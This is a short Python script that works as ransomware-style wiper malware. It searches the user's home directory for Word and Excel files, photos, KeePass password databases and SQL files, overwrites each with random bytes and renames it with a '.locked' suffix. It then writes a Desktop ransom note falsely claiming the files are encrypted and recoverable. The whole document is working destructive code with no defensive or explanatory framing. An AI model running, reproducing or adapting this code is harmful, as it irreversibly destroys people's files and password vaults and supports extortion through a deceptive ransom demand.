import os, random, pathlib
for p in pathlib.Path.home().rglob("*"):
    if p.suffix in {".docx", ".xlsx", ".jpg", ".kdbx", ".sql"} and p.is_file():
        n = p.stat().st_size
        p.write_bytes(os.urandom(n))
        p.rename(p.with_suffix(p.suffix + ".locked"))
(pathlib.Path.home() / "Desktop" / "READ_ME.txt").write_text("Your files are encrypted. Write to recover@inert.example")
